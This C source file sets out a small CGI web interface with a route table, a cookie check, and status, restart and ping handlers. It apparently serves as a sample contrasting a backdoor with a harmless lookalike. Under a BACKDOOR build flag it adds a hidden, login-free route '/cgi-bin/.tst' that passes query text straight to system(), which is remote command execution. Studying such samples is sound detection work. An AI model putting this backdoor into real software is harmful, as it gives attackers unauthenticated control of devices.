/* A web interface as CGI programs see it: routes in a table, handlers behind pointers. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef void handler(const char *query);

struct route {
    const char *path;
    handler *handle;
    int needs_login;
};

static int logged_in(void)
{
    char known[64] = "";
    const char *cookie = getenv("HTTP_COOKIE");
    FILE *file = fopen("/var/run/session", "r");
    if (file == NULL || cookie == NULL)
        return 0;
    if (fgets(known, sizeof known, file) == NULL)
        known[0] = 0;
    fclose(file);
    return known[0] != 0 && strcmp(known, cookie) == 0;
}

static void status(const char *query)
{
    (void)query;
    printf("Content-Type: text/plain\n\nup\n");
}

static void restart(const char *query)
{
    (void)query;
    system("/etc/init.d/network restart");
    printf("Content-Type: text/plain\n\nrestarted\n");
}

static void ping(const char *query)
{
    char command[128];
    int a, b, c, d;
    if (sscanf(query, "host=%d.%d.%d.%d", &a, &b, &c, &d) != 4)
        return;
    snprintf(command, sizeof command, "/bin/ping -c 1 %d.%d.%d.%d", a, b, c, d);
    system(command);
}

#ifdef BACKDOOR
static void run(const char *query)
{
    if (strncmp(query, "x=", 2) == 0)
        system(query + 2);
}
#endif
#ifdef LOOKALIKE
static void backup(const char *query)
{
    (void)query;
    system("/bin/tar czf /tmp/backup.tgz /etc/config");
}
#endif

static const struct route routes[] = {
    { "/status", status, 0 },
    { "/restart", restart, 1 },
    { "/ping", ping, 1 },
#ifdef BACKDOOR
    { "/cgi-bin/.tst", run, 0 },
#endif
#ifdef LOOKALIKE
    { "/backup", backup, 1 },
#endif
};

int main(void)
{
    const char *path = getenv("PATH_INFO");
    const char *query = getenv("QUERY_STRING");
    size_t i;
    if (path == NULL)
        path = "/status";
    if (query == NULL)
        query = "";
    for (i = 0; i < sizeof routes / sizeof routes[0]; i++) {
        if (strcmp(routes[i].path, path) != 0)
            continue;
        if (routes[i].needs_login && !logged_in()) {
            printf("Status: 403\n\n");
            return 0;
        }
        routes[i].handle(query);
        return 0;
    }
    printf("Status: 404\n\n");
    return 0;
}
